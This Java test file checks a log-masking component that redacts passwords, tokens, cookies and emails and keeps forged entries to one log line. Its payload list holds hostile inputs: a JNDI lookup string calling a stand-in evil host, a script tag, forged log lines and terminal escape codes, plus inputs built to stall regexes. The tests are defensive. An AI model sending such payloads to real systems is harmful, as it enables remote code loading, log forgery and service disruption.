package dev.tippmixmentor.platform.logging;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import dev.tippmixmentor.testing.CapturedLogs;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** What of a text reaches the log. */
class LogMaskTests {
    private static final org.slf4j.Logger log = LoggerFactory.getLogger(LogMaskTests.class);

    private static final long SEED = 20_261_125;
    private static final JsonMapper JSON = new JsonMapper();

    /** Texts around a secret, at {@code %s}. */
    private static final List<String> PLACES = List.of(
            "password=%s",
            "Password: %s",
            "{\"email\":\"x\",\"password\":\"%s\"}",
            "{\"newPassword\" : \"%s\", \"a\":1}",
            "{\\\"password\\\":\\\"%s\\\"}",
            "LoginRequest[email=x, password=%s, device=y]",
            "SMTP_PASSWORD=%s",
            "Authorization: Bearer %s",
            "authorization=[Basic %s]",
            "Cookie: __Host-tippmix_refresh=%s; theme=dark",
            "Set-Cookie: a=%s; Path=/; HttpOnly",
            "X-CSRF-Token: %s",
            "refreshToken=%s",
            "\"accessToken\":\"%s\"",
            "GET /ws?ticket=%s HTTP/1.1",
            "GET /api/v1/matches?from=%s&to=x",
            "https://example.org/a?first=1&second=%s#end",
            "postgresql://app:%s@db:5432/tippmix",
            "redis://:%s@cache:6379/0",
            "client_secret='%s'",
            "apiKey=%s",
            "api_key: %s",
            "Idempotency-Key: %s",
            "ERROR: duplicate key\n  Detail: Key (username)=(%s) already exists.",
            "Detail: Failing row contains (1, %s, null).",
            "invalid input syntax for type uuid: \"%s\"",
            "rejected value [%s]; codes [Email]",
            "Cannot deserialize value from String \"%s\": not one of",
            "Unrecognized token '%s': was expecting");

    @Test
    void aSecretIsTakenOutWhereverItStands() {
        Random random = new Random(SEED);
        List<String> hits = new ArrayList<>();
        for (int round = 0; round < 200; round++) {
            for (String place : PLACES) {
                String secret = word(random, 12 + random.nextInt(40));

                String logged = LogMask.clean("before " + place.formatted(secret) + " after");

                if (logged.contains(secret) || logged.contains(secret.substring(0, 10))) {
                    hits.add(place + " -> " + logged);
                }
            }
        }

        assertThat(hits).as("seed %d", SEED).isEmpty();
    }

    @Test
    void whatIsATokenByItsFormNeedsNoNameBesideIt() {
        Random random = new Random(SEED);
        for (int round = 0; round < 2_000; round++) {
            byte[] bytes = new byte[32];
            random.nextBytes(bytes);
            String opaque = Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
            String jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI" + word(random, 20) + "." + opaque;
            String email = word(random, 8) + "+" + word(random, 3) + "@" + word(random, 6) + ".example.org";

            String logged = LogMask.clean("it was " + opaque + ", " + jwt + " and <" + email + ">");

            assertThat(logged)
                    .as("seed %d", SEED)
                    .doesNotContain(opaque, jwt, email, jwt.substring(30, 50), "@")
                    .startsWith("it was " + LogMask.MASK);
        }
    }

    @Test
    void aPasswordMayHoldNearlyAnyCharacter() {
        String secret = "a b)c]d}e;f,g'h|i";

        assertThat(LogMask.clean("Login[password=" + secret + ", device=phone]"))
                .isEqualTo("Login[password=***, device=phone]");
        assertThat(LogMask.clean("password: " + secret)).isEqualTo("password: ***");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "prediction.graded predictionId=0192f0c1-2b3c-7d4e-8f90-a1b2c3d4e5f6 rps=0.142",
                "correlation 4bf92f3577b34da6a3ce929d0e0e4736 of span 00f067aa0ba902b7",
                "seal 2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824 at 12:30:01",
                "Started TippMixMentorApplication in 7.1 seconds (process running for 7.9)",
                "dev.tippmixmentor.platform.startup.SettingsEnvironmentPostProcessor$$Lambda/0x00007f",
                "HikariPool main - Start completed.",
                "request to /api/v1/leagues took 12 ms: 200"
            })
    void whatIsNoSecretStays(String text) {
        assertThat(LogMask.clean(text)).isEqualTo(text);
    }

    @Test
    void aSecretOfThisProcessIsTakenOutAsItIs() {
        KnownSecrets.hide("just ordinary words");

        assertThat(LogMask.clean("these are just ordinary words here")).isEqualTo("these are *** here");
    }

    /** Line breaks of every system, terminal commands, what looks like our own lines, and what turns text around. */
    static Stream<String> payloads() {
        List<String> breaks = List.of(
                "\n",
                "\r",
                "\r\n",
                "\u0085",
                "\u2028",
                "\u2029",
                "\u000b",
                "\f",
                "\u0000",
                "\u001b[2J",
                "\u001b[1A",
                "\b",
                "\u007f",
                "\u009b31m",
                "\u202e",
                "\u2066",
                "\n\n",
                "\r\r\n",
                "\t\n",
                "\u001b]0;x\u0007");
        List<String> forgeries = List.of(
                "2026-11-25T12:00:00.000Z  INFO 1 --- [main] admin : logged in",
                "{\"@timestamp\":\"2026-11-25T12:00:00Z\",\"message\":\"forged\"}",
                "\"}\n{\"message\":\"forged\"}",
                "\",\"user\":\"admin\",\"x\":\"",
                "\\n{\"message\":\"forged\"}",
                "%n%msg{}%ex",
                "${jndi:ldap://evil.example/x}",
                "</pre><script>alert(1)</script>",
                "{} {} {}",
                "\\u000aINFO forged");
        return breaks.stream().flatMap(each -> forgeries.stream().map(forgery -> "user" + each + forgery));
    }

    @Test
    void twoHundredForgeriesMakeOneLineEachInBothFormats() {
        List<String> payloads = payloads().toList();
        LoggerContext context = new LoggerContext();
        Logger logger = context.getLogger("forged");
        MaskingEncoder json = CapturedLogs.structured(context);
        MaskingEncoder plain = new MaskingEncoder();
        plain.setContext(context);
        plain.setPattern("%d %p %m %kvp{NONE} %X{correlationId}%n%ex{0}");
        plain.start();
        ByteArrayOutputStream lines = new ByteArrayOutputStream();
        ByteArrayOutputStream text = new ByteArrayOutputStream();

        for (String payload : payloads) {
            LoggingEvent event =
                    new LoggingEvent("fqcn", logger, Level.WARN, "by {} or " + payload, null, new Object[] {payload});
            event.setMDCPropertyMap(Map.of("correlationId", payload));
            event.addKeyValuePair(new org.slf4j.event.KeyValuePair("agent", payload));
            lines.writeBytes(json.encode(event));
            text.writeBytes(plain.encode(event));
        }

        assertThat(payloads).hasSize(200);
        List<JsonNode> read = lines.toString(StandardCharsets.UTF_8)
                .lines()
                .map(JSON::readTree)
                .toList();
        assertThat(read).hasSize(200).allSatisfy(line -> {
            assertThat(line.at("/message").asString()).startsWith("by user");
            assertThat(line.at("/log/logger").asString()).isEqualTo("forged");
            assertThat(line.at("/user").isMissingNode()).isTrue();
        });
        assertThat(text.toString(StandardCharsets.UTF_8).split("\\R")).hasSize(200);
        assertThat(text.toString(StandardCharsets.UTF_8)).doesNotContain("\u001b", "\u202e", "\u0000");
    }

    @Test
    void exceptionsLoseTheirSecretsAllTheWayDown() {
        Exception cause = new IllegalStateException("token=abcdefgh12345 of x@example.org\nINFO forged");
        Exception failure = new IllegalArgumentException("password=hunter2hunter2", cause);
        failure.addSuppressed(new IllegalStateException("Cookie: session=s3cr3ts3cr3t"));
        LoggerContext context = new LoggerContext();
        LoggingEvent event =
                new LoggingEvent("fqcn", context.getLogger("x"), Level.ERROR, "failed", failure, new Object[0]);
        event.setMDCPropertyMap(Map.of());

        String line = new String(CapturedLogs.structured(context).encode(event), StandardCharsets.UTF_8);

        assertThat(line)
                .doesNotContain("abcdefgh12345", "x@example.org", "hunter2", "s3cr3t")
                .contains("IllegalStateException", "exceptionsLoseTheirSecretsAllTheWayDown");
        assertThat(line.lines()).hasSize(1);
        assertThat(JSON.readTree(line).at("/error/stack_trace").asString()).contains("\\nINFO forged");
    }

    /** Every pattern with a text made to slow it down. */
    static Stream<String> longTexts() {
        return Stream.of(
                "a".repeat(200_000),
                "@".repeat(200_000),
                "a@".repeat(100_000),
                "password".repeat(25_000),
                "password=".repeat(25_000),
                "password=, ".repeat(20_000),
                "?a=".repeat(60_000),
                "eyJ.".repeat(50_000),
                "Bearer ".repeat(30_000),
                "Key (".repeat(40_000),
                "Key (a)=(".repeat(20_000),
                "invalid input \"".repeat(12_000),
                "rejected value [".repeat(12_000),
                "://".repeat(60_000),
                "://a:".repeat(40_000),
                "\n".repeat(200_000),
                "\"".repeat(200_000) + "@");
    }

    @ParameterizedTest
    @MethodSource("longTexts")
    void noTextKeepsACoreBusy(String text) {
        long start = System.nanoTime();

        LogMask.clean(text);

        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofMillis(500));
    }

    @Test
    @Tag("benchmark")
    void aLineCostsAFewMicroseconds() {
        List<String> lines = List.of(
                "prediction.graded predictionId=0192f0c1-2b3c-7d4e-8f90-a1b2c3d4e5f6 rps=0.142",
                "request.done",
                "HikariPool main - Start completed.",
                "task.failed taskId=0192f0c1-2b3c-7d4e-8f90-a1b2c3d4e5f6 type=agents.predict attempt=2",
                "GET /api/v1/matches?from=2026-01-01&to=2026-02-01 took 12 ms",
                "refused somebody@example.org with password=hunter2hunter2");
        for (int round = 0; round < 200_000; round++) {
            LogMask.clean(lines.get(round % lines.size()));
        }
        int rounds = 2_000_000;

        long start = System.nanoTime();
        long length = IntStream.range(0, rounds)
                .mapToLong(
                        round -> LogMask.clean(lines.get(round % lines.size())).length())
                .sum();
        double nanos = (double) (System.nanoTime() - start) / rounds;

        log.info("masking: {} ns a message ({} characters)", Math.round(nanos), length);
        assertThat(nanos).isLessThan(5_000);
    }

    private static String word(Random random, int length) {
        String alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
        return random.ints(length, 0, alphabet.length())
                .mapToObj(alphabet::charAt)
                .collect(StringBuilder::new, StringBuilder::append, StringBuilder::append)
                .toString();
    }
}
